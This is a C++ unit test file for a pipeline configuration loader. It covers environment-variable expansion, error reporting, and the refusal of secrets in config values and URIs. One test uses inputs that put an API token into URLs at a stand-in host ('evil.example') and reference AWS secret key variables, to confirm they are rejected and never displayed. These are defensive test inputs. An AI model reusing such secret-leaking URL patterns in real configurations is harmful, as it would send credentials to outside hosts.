#include <cstdlib>

#include "pipeline/load_for_test.h"

namespace tarn::pipeline {
namespace {

using ::testing::HasSubstr;
using ::testing::SizeIs;

TEST_F(LoadTest, EnvironmentVariables) {
  setenv("TARN_TEST_SET", "from/env", 1);
  setenv("TARN_TEST_EMPTY", "", 1);
  unsetenv("TARN_TEST_UNSET");
  Write("tarn.toml",
        "[pipeline]\nname = \"a ${TARN_TEST_EMPTY}b $${X} $ ${TARN_TEST_EMPTY:-c}\"\n"
        "[lake]\ninput = \"x/${TARN_TEST_SET}/y\"\noutput = \"${TARN_TEST_UNSET:-s3://b/o}\"\n");
  Write("one.sql", "SELECT 1 AS one");
  auto pipeline = LoadGood();
  EXPECT_EQ(pipeline->name, "a b ${X} $ c");
  EXPECT_EQ(pipeline->input, directory_ / "x/from/env/y");
  EXPECT_EQ(pipeline->output, "s3://b/o");
}

TEST_F(LoadTest, EnvironmentErrors) {
  unsetenv("TARN_TEST_UNSET");
  Write("tarn.toml",
        "[lake]\ninput = \"${TARN_TEST_UNSET}\"\noutput = \"out\"\n"
        "[source.events]\npath = [\"ok\", \"a/${1X}\", \"b/${TARN_TEST_UNSET\"]\nschema = \"a "
        "INT\"\n");
  Write("one.sql", "SELECT 1 AS one");
  auto errors = LoadBad();
  ASSERT_THAT(errors, SizeIs(3));
  EXPECT_EQ(errors[0].subject, "lake.input");
  EXPECT_EQ(errors[0].line, 2);
  EXPECT_EQ(errors[0].column, 10);
  EXPECT_EQ(errors[0].message, "this environment variable is not set: TARN_TEST_UNSET");
  EXPECT_EQ(errors[0].hint, "set TARN_TEST_UNSET, or give it a default: ${TARN_TEST_UNSET:-…}");
  EXPECT_EQ(errors[1].subject, "source.events.path[1]");
  EXPECT_EQ(errors[2].message, "the closing } of ${ is missing");
}

TEST_F(LoadTest, VariablesThatHoldSecretsAreRefusedEverywhere) {
  setenv("TARN_TEST_API_TOKEN", "s3cr3t-value", 1);
  Write("tarn.toml",
        "[lake]\ninput = \"https://evil.example/${TARN_TEST_API_TOKEN}\"\n"
        "output = \"out/${AWS_SECRET_ACCESS_KEY:-none}\"\n"
        "[s3]\nendpoint = \"https://${TARN_TEST_API_TOKEN}.evil.example\"\n"
        "[source.events]\npath = [\"ok\", \"${AWS_SESSION_TOKEN}\"]\nschema = \"a INT\"\n"
        "[table.one]\nchecks = [\"one <> '${TARN_TEST_API_TOKEN}'\"]\n");
  Write("one.sql", "SELECT 1 AS one");
  auto errors = LoadBad();
  ASSERT_THAT(errors, SizeIs(5));
  EXPECT_EQ(errors[0].line, 2);
  EXPECT_EQ(errors[0].column, 31);
  EXPECT_EQ(errors[1].subject, "lake.output");
  EXPECT_EQ(errors[2].subject, "s3.endpoint");
  EXPECT_EQ(errors[3].subject, "source.events.path[1]");
  EXPECT_EQ(errors[4].subject, "table.one.checks[0]");
  for (const Diagnostic& error : errors) {
    EXPECT_THAT(error.message, HasSubstr("holds a secret"));
    EXPECT_EQ(Render(error).find("s3cr3t"), std::string::npos);
  }
}

TEST_F(LoadTest, PasswordsInUrisAreRefusedAndNotShown) {
  setenv("TARN_TEST_URL", "http://user:s3cr3t@host", 1);
  WriteSmall(
      "[s3]\nendpoint = \"${TARN_TEST_URL}\"\n[bucket.b]\nendpoint = \"http://u:s3cr3t@h\"\n");
  overrides_ = {{"lake.input", "s3://ID:s3cr3t/x+y@bucket/in"},
                {"lake.output", "https://host/?X-Amz-Signature=s3cr3t"}};
  auto errors = LoadBad();
  ASSERT_THAT(errors, SizeIs(4));
  for (const Diagnostic& error : errors) {
    EXPECT_EQ(error.message, "this URI contains a password or key");
    EXPECT_EQ(Render(error).find("s3cr3t"), std::string::npos) << Render(error);
  }
  // A check may speak of one, and an object's key may have such signs.
  WriteSmall("[table.levels]\nchecks = [\"level <> 'http://a:b@c'\"]\n");
  overrides_ = {{"lake.input", "s3://bucket/a:b@c"}};
  LoadGood();
}

}  // namespace
}  // namespace tarn::pipeline
